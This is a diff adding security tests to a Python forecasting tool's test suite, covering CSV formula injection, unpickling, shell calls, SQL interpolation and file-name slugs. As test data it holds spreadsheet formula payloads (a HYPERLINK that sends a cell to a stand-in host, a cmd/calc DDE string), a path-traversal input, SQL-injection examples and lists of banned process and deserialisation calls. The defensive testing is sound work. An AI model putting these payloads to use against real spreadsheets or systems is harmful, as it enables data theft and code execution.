@@ -5,14 +5,24 @@ SECURITY.md lists the threats; each test here names the defence it checks.
 
 from __future__ import annotations
 
+import ast
+import csv
+import io
+import re
+from pathlib import Path
+
 import duckdb
+import pandas as pd
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 from typer.testing import CliRunner
 
 from forecast.cli import app
 from forecast.data.warehouse import Warehouse
 from forecast.errors import Problem
-from forecast.textutil import printable
+from forecast.safeio import FORMULA_PREFIXES, csv_bytes
+from forecast.textutil import printable, slugify
 
 runner = CliRunner()
 ESC = "\x1b[2J\x1b[31m"  # clear the screen, then print in red
@@ -89,3 +99,237 @@ def test_warehouse_sql_cannot_reach_outside_the_database_file(tmp_path, sql, err
     with Warehouse(tmp_path / "w.duckdb") as wh, pytest.raises(duckdb.Error, match=error):
         wh._con.execute(sql)
     assert not (tmp_path / "stolen.csv").exists()
+
+
+# --- formula injection: every CSV output -------------------------------------------------
+
+HOSTILE = (
+    '=HYPERLINK("http://x.example/?"&A1,"x")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    " =1+1",
+)
+
+
+def _cells(path: Path) -> list[str]:
+    text = path.read_text(encoding="utf-8-sig")
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def _assert_neutral(path: Path) -> None:
+    """No cell a spreadsheet would run: anything starting like a formula is a number."""
+    for cell in _cells(path):
+        if cell.lstrip().startswith(FORMULA_PREFIXES):
+            try:
+                float(cell)
+            except ValueError:
+                pytest.fail(f"{path.name}: formula-like cell {cell!r}")
+
+
+def test_predict_csv_and_backtest_outputs_neutralise_hostile_series_ids(tmp_path):
+    rows = [
+        (uid, str(p), 10 + k + (i % 12))
+        for k, uid in enumerate([*HOSTILE, "ok"])
+        for i, p in enumerate(pd.period_range("2020-01", periods=30, freq="M"))
+    ]
+    pd.DataFrame(rows, columns=["unique_id", "ds", "y"]).to_csv(tmp_path / "in.csv", index=False)
+    out, details, board = tmp_path / "out.csv", tmp_path / "details", tmp_path / "board.csv"
+    common = ["-h", "3", "--models", "naive,snaive"]
+    predict = ["predict-csv", str(tmp_path / "in.csv"), "-o", str(out), "--details", str(details)]
+    assert runner.invoke(app, [*predict, *common]).exit_code == 0
+    backtest = ["backtest", "--input", str(tmp_path / "in.csv"), "-o", str(board)]
+    assert runner.invoke(app, [*backtest, *common]).exit_code == 0
+    files = [out, board, *(details / f"{n}.csv" for n in ("backtest", "selection", "leaderboard"))]
+    for path in files:
+        _assert_neutral(path)
+    ids = set(_cells(out))
+    assert {"'" + h for h in HOSTILE} <= ids and not set(HOSTILE) & ids
+    assert "'" + HOSTILE[0] in _cells(details / "selection.csv")
+
+
+@pytest.mark.parametrize("text", [*HOSTILE, "\r=1", "\n=1", "=", "-", "@"])
+def test_csv_bytes_neutralises_text_of_every_column_type(text):
+    frame = pd.DataFrame(
+        {
+            "object": [text],
+            "string": pd.array([text], dtype="string"),
+            "category": pd.Categorical([text]),
+            "number": [-1.5],
+        }
+    )
+    cells = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8"))))[1]
+    shown = "'" + text.replace("\r", "\n")
+    assert cells == [shown] * 3 + ["-1.500000"]
+
+
+def test_a_carriage_return_cannot_start_a_new_row(tmp_path):
+    """A bare CR is left unquoted by a CSV writer with LF line ends, and spreadsheets start a
+    new row there, whose first cell would then be a formula."""
+    frame = pd.DataFrame({"unique_id": ['x\r=HYPERLINK("http://x.example")'], "y": [1.0]})
+    data = csv_bytes(frame)
+    assert b"\r" not in data
+    (path := tmp_path / "f.csv").write_bytes(data)
+    assert _cells(path) == ["unique_id", "y", 'x\n=HYPERLINK("http://x.example")', "1.000000"]
+
+
+def test_no_xlsx_writer_exists():
+    """No output is written as XLSX. Adding one needs the same neutralisation as csv_bytes
+    (openpyxl stores a text cell starting with '=' as a formula) and a test here."""
+    for path, tree in _modules():
+        for node in ast.walk(tree):
+            name = _dotted(node.func) if isinstance(node, ast.Call) else ""
+            assert not name.endswith(("to_excel", "Workbook", "ExcelWriter")), (path, name)
+            if isinstance(node, ast.Import | ast.ImportFrom):
+                mods = [a.name for a in node.names] + [getattr(node, "module", "") or ""]
+                assert not any("xlsxwriter" in m for m in mods), path
+
+
+# --- code review as tests: deserialisation, shell, SQL -----------------------------------
+
+PACKAGE = Path(__file__).resolve().parents[1] / "forecast"
+
+
+def _modules() -> list[tuple[str, ast.Module]]:
+    return [
+        (str(p.relative_to(PACKAGE.parent)), ast.parse(p.read_text(encoding="utf-8")))
+        for p in sorted(PACKAGE.rglob("*.py"))
+    ]
+
+
+def _dotted(node: ast.AST) -> str:
+    if isinstance(node, ast.Name):
+        return node.id
+    if isinstance(node, ast.Attribute):
+        return f"{_dotted(node.value)}.{node.attr}"
+    return ""
+
+
+def _functions(tree: ast.Module) -> dict[ast.AST, str]:
+    """Each node -> name of the function it is in ('' at module level)."""
+    owner: dict[ast.AST, str] = {}
+    for fn in ast.walk(tree):
+        if isinstance(fn, ast.FunctionDef | ast.AsyncFunctionDef):
+            for node in ast.walk(fn):
+                owner.setdefault(node, fn.name) if node is not fn else None
+    return owner
+
+
+DESERIALISERS = (
+    "pickle.load", "pickle.loads", "joblib.load", "cloudpickle.load", "cloudpickle.loads",
+    "dill.load", "dill.loads", "marshal.load", "marshal.loads", "shelve.open",
+    "pd.read_pickle", "pandas.read_pickle", "torch.load", "np.load", "numpy.load",
+)  # fmt: skip
+#: The one place allowed to unpickle: registry artifacts, after their checksum (see below).
+ALLOWED_DESERIALISERS = {("forecast/registry.py", "load_artifact", "joblib.load")}
+
+
+def test_objects_are_unpickled_only_from_the_registry_after_their_checksum():
+    found = set()
+    for path, tree in _modules():
+        owner = _functions(tree)
+        for node in ast.walk(tree):
+            if isinstance(node, ast.Call) and _dotted(node.func) in DESERIALISERS:
+                found.add((path, owner.get(node, ""), _dotted(node.func)))
+    assert found <= ALLOWED_DESERIALISERS
+    for path, function, _call in found:
+        tree = dict(_modules())[path]
+        fn = next(
+            n for n in ast.walk(tree) if isinstance(n, ast.FunctionDef) and n.name == function
+        )
+        source = ast.unparse(fn)
+        # The bytes are read once, checked against the manifest, and unpickled from memory.
+        assert "data = _checked_bytes(" in source
+        assert source.index("data = _checked_bytes(") < source.index(
+            "joblib.load(io.BytesIO(data))"
+        )
+
+
+def test_no_shell_or_subprocess_calls():
+    """Nothing in the package starts processes from strings (data or otherwise)."""
+    banned = ("os.system", "os.popen", "subprocess.", "os.exec", "os.spawn", "pty.spawn")
+    for path, tree in _modules():
+        for node in ast.walk(tree):
+            if isinstance(node, ast.Call):
+                assert not _dotted(node.func).startswith(banned), (path, ast.unparse(node))
+            if isinstance(node, ast.Import | ast.ImportFrom):
+                mods = [a.name for a in node.names] + [getattr(node, "module", "") or ""]
+                assert "subprocess" not in mods, path
+            if isinstance(node, ast.keyword) and node.arg == "shell":
+                pytest.fail(f"{path}: shell= in {ast.unparse(node)}")
+
+
+_SQL = re.compile(r"\b(SELECT|INSERT|UPDATE|DELETE|CREATE|DROP|FROM|WHERE|COPY)\b")
+#: Names that may be interpolated into SQL text: fixed column lists and table names.
+_SQL_CONSTANTS = {"_OBS_SQL", "_KEY_SQL", "_LATEST", "table", "t"}
+
+
+def sql_interpolations(tree: ast.Module) -> list[str]:
+    """Expressions interpolated into SQL-looking f-strings, %-format or + concatenation."""
+    out = []
+    for node in ast.walk(tree):
+        if isinstance(node, ast.JoinedStr):
+            text = "".join(v.value for v in node.values if isinstance(v, ast.Constant))
+            if _SQL.search(text):
+                out += [
+                    ast.unparse(v.value) for v in node.values if isinstance(v, ast.FormattedValue)
+                ]
+        elif isinstance(node, ast.BinOp) and isinstance(node.op, ast.Mod | ast.Add):
+            for side in (node.left, node.right):
+                text = side.value if isinstance(side, ast.Constant) else None
+                if isinstance(text, str) and _SQL.search(text):
+                    out.append(ast.unparse(node))
+        elif isinstance(node, ast.Call) and _dotted(node.func).endswith(".format"):
+            target = node.func.value  # type: ignore[attr-defined]
+            if isinstance(target, ast.Constant) and _SQL.search(str(target.value)):
+                out.append(ast.unparse(node))
+    return out
+
+
+def test_sql_interpolates_only_fixed_names():
+    """User values reach DuckDB only as parameters (``?``); SQL text may only splice in the
+    fixed column lists and table names of warehouse.py."""
+    for path, tree in _modules():
+        if "duckdb" not in ast.unparse(tree):
+            continue
+        assert set(sql_interpolations(tree)) <= _SQL_CONSTANTS, path
+
+
+def test_the_sql_check_catches_values_in_sql_text():
+    bad = ast.parse(
+        "con.execute(f\"SELECT * FROM observations WHERE unit = '{unit}'\")\n"
+        'con.execute("DELETE FROM batches WHERE batch_id = %s" % batch)\n'
+        'con.execute("SELECT * FROM t WHERE unit = \'" + unit + "\'")\n'
+    )
+    assert len(sql_interpolations(bad)) == 3 and "unit" in sql_interpolations(bad)
+
+
+# --- file names from data ------------------------------------------------------------------
+
+
+@given(st.text())
+def test_slugs_are_safe_file_names_whatever_the_text(text):
+    slug = slugify(text)
+    assert re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*|unnamed", slug) and len(slug) <= 60
+
+
+@pytest.mark.parametrize(
+    ("text", "slug"),
+    [("../../etc/passwd", "etc-passwd"), ("..", "unnamed"), ("=cmd|' /C calc'!A0", "cmd-c-calc-a0"),
+     ("Hồ Chí Minh", "ho-chi-minh"), ("a\x00b/c\\d", "a-b-c-d"), ("", "unnamed")],
+)  # fmt: skip
+def test_slugify_examples(text, slug):
+    assert slugify(text) == slug
+
+
+def test_report_file_names_come_from_reference_names_only(tmp_path):
+    """Every report scope's file name is a slug of a reference name, whatever the data."""
+    from forecast.data.geography import provinces, regions
+    from forecast.reports.scope import national, province_scope, region_scope
+
+    scopes = [national(), *(region_scope(r.code) for r in regions())]
+    scopes += [province_scope(p.name) for p in provinces()]
+    slugs = [s.slug for s in scopes]
+    assert len(set(slugs)) == len(slugs) == 41
+    assert all(re.fullmatch(r"(national|region|province)(-[a-z0-9]+)*", s) for s in slugs)
